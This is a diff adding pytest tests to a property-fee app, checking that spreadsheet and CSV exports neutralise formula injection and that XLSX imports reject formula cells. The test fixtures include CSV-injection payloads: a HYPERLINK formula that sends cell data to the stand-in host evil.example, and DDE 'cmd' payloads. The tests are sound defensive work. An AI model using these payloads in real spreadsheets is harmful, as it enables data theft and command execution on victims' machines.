@@ -24,6 +24,7 @@ from app.cli import main as feedesk
 from app.errors import FeeDeskError
 from app.money import MAX_FEN, Money
 from app.services import accounts, arrears, auth, billing, fees, payments, run, shifts
+from tests.helpers import assign_all, bill, make_fee
 from tests.reliability.figures import count, scaled
 from tests.reliability.ledgers import fingerprint
 
@@ -338,6 +339,104 @@ def test_cases_the_fuzzing_found_are_refused_in_chinese(lg, tmp_path):
     for fn, kw in cases:
         result = attempt(lg, fn, **kw)
         assert isinstance(result, FeeDeskError), (fn.__name__, kw)
+
+
+# ---- issue 17.8: exports never run a formula -------------------------------------------------
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
+                 "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def _is_number(text: str) -> bool:
+    return re.fullmatch(r"-?[0-9,]+(\.[0-9]+)?%?", text) is not None
+
+
+def test_owner_names_typed_as_formulas_are_exported_as_text(ledger, tmp_path, monkeypatch, capsys):
+    rows = [["楼栋", "单元", "房号", "建筑面积", "业主", "电话", "状态"]]
+    rows += [["9", "1", str(101 + i), "100", name, "", "已入住"] for i, name in enumerate(FORMULA_NAMES)]
+    path = tmp_path / "units.csv"
+    path.write_bytes(_csv_bytes(rows, "utf-8-sig"))
+    # CSV has no formulas: the names are data and are stored as typed ...
+    assert ledger.run(accounts.import_accounts, actor=ledger.actor("admin"), path=str(path)).imported == 5
+    make_fee(ledger, "WYF 物业费 area 2.00 monthly", due_days=15)
+    assign_all(ledger, "WYF")
+    bill(ledger, "2026-09")
+    # ... and every export shows them as text behind OWASP's single quote, never as a formula.
+    monkeypatch.setenv("FEEDESK_PASSWORD", "boss")
+    xlsx_path, csv_path = tmp_path / "arrears.xlsx", tmp_path / "arrears.csv"
+    code = feedesk(["--db", ledger.url, "--user", "boss", "report", "arrears", "--as-of", "2026-11-25",
+                    "--xlsx", str(xlsx_path), "--csv", str(csv_path)])
+    assert code == 0, capsys.readouterr().err
+    from openpyxl import load_workbook
+
+    wb = load_workbook(xlsx_path)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    for name in FORMULA_NAMES:
+        assert "'" + name in texts
+    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    amounts = [c.value for c in cells if c.number_format == "#,##0.00"]
+    assert amounts and all(not isinstance(v, str) for v in amounts)  # amounts stay numbers
+    fields = [f for row in csv.reader(io.StringIO(csv_path.read_text("utf-8-sig"))) for f in row]
+    for name in FORMULA_NAMES:
+        assert "'" + name in fields
+    assert "200.00" in fields  # an amount is still a plain number
+    assert not [f for f in fields if f.startswith(("=", "+", "@", "\t", "\r"))
+                or (f.startswith("-") and not _is_number(f))]
+
+
+def test_every_text_cell_of_an_export_is_neutralised_and_numbers_stay_numbers(tmp_path):
+    from openpyxl import load_workbook
+
+    from app.reports import csvfile, xlsx
+    from app.reports.document import Column, Document, KeyValues, Table, Text, safe_cell
+    from app.services.reports import Rate, ReportMeta
+
+    hostile_texts = ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"]
+    assert [safe_cell(t) for t in hostile_texts] == ["'" + t for t in hostile_texts]
+    assert safe_cell("张三") == "张三" and safe_cell("") == "" and safe_cell(None) is None
+    assert safe_cell(-5) == -5 and safe_cell(Money(-1230)) == Money(-1230) and safe_cell(dt.date(2026, 1, 1))
+    doc = Document("=标题", ReportMeta("=单位", "2026-10", "=打印人", "2026-11-25 10:00"), [
+        KeyValues([("=键", "=值"), ("退款", Money(-1230))]),
+        Table([Column("=列"), Column("金额"), Column("笔数"), Column("比率")],
+              [[t, Money(-1230), -3, Rate(1, 3)] for t in hostile_texts], ["=合计", Money(-7380), -18, None],
+              title="@表"),
+        Text("-说明"),
+    ])
+    xlsx.render(doc, tmp_path / "t.xlsx")
+    csvfile.render(doc, tmp_path / "t.csv")
+    ws = load_workbook(tmp_path / "t.xlsx").worksheets[0]
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))], texts
+    # (XML reads a stored CR back as LF: the cell still starts with the quote)
+    assert {"'=标题", "'=键", "'=值", "'=列", "'=合计", "'@表", "'-说明",
+            *("'" + t.replace("\r", "\n") for t in hostile_texts)} <= set(texts)
+    numbers = [c.value for c in cells if not isinstance(c.value, str)]
+    assert -3 in numbers and -18 in numbers and any(str(v) == "-12.3" for v in numbers)
+    rows = list(csv.reader(io.StringIO((tmp_path / "t.csv").read_text("utf-8-sig"))))
+    assert ["'=1+1", "-12.30", "-3", "33.33%"] in rows and ["'=合计", "-73.80", "-18", ""] in rows
+    assert ["'=键", "'=值"] in rows and ["退款", "-12.30"] in rows and rows[0] == ["'=标题"]
+
+
+def test_xlsx_import_refuses_a_formula_cell_naming_its_line(lg, tmp_path):
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    ws = wb.active
+    ws.append(["楼栋", "单元", "房号", "建筑面积", "业主", "电话", "状态"])
+    ws.append(["8", "1", "101", "90", "张三", "13800001234", "已入住"])
+    ws.append(["8", "1", "102", "90", '=HYPERLINK("http://evil.example","李四")', "", "已入住"])
+    ws.append(["8", "1", "103", "=90*2", "王五", "", "已入住"])
+    wb.save(tmp_path / "units.xlsx")
+    before = fingerprint(lg)
+    with pytest.raises(FeeDeskError) as info:
+        lg.run(accounts.import_accounts, actor=lg.actor("admin"), path=str(tmp_path / "units.xlsx"))
+    assert "第 3 行" in info.value.message and "E3" in info.value.message and "公式" in info.value.message
+    assert "第 4 行" in info.value.message and "D4" in info.value.message
+    assert fingerprint(lg) == before  # nothing imported, not even the good line
 
 
 def teardown_module(module):
